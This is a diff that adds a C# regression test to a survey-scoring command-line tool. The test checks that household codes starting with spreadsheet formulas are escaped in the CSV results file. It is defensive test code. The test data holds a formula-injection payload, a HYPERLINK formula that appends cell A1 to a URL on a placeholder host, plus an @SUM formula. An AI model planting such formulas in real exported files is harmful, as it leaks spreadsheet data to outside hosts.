@@ -23,6 +23,22 @@ public class ScoreCommandTests
     }
 
     [Fact]
+    public void Regression_result_csv_wrote_a_formula_household_code_raw_so_Excel_ran_it()
+    {
+        using var work = new WorkFolder();
+        var output = work.Path("ket-qua.csv");
+        var survey = work.WriteSurvey(extraHousehold: "\"=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Bấm\"\")\",nong_thon,2,900000,,,\n@SUM(A1:A9),nong_thon,2,900000,,,\n-17,nong_thon,2,900000,,,");
+
+        var run = CliRun.Of("score", survey, "--year", "2025", "--out", output);
+
+        Assert.Equal(0, run.ExitCode);
+        var lines = File.ReadAllText(output, Encoding.UTF8).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.StartsWith("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Bấm\"\")\",", lines[3], StringComparison.Ordinal);
+        Assert.StartsWith("\"'@SUM(A1:A9)\",", lines[4], StringComparison.Ordinal);
+        Assert.StartsWith("-17,", lines[5], StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void Prints_counts_and_rates_over_all_resident_households()
     {
         using var work = new WorkFolder();
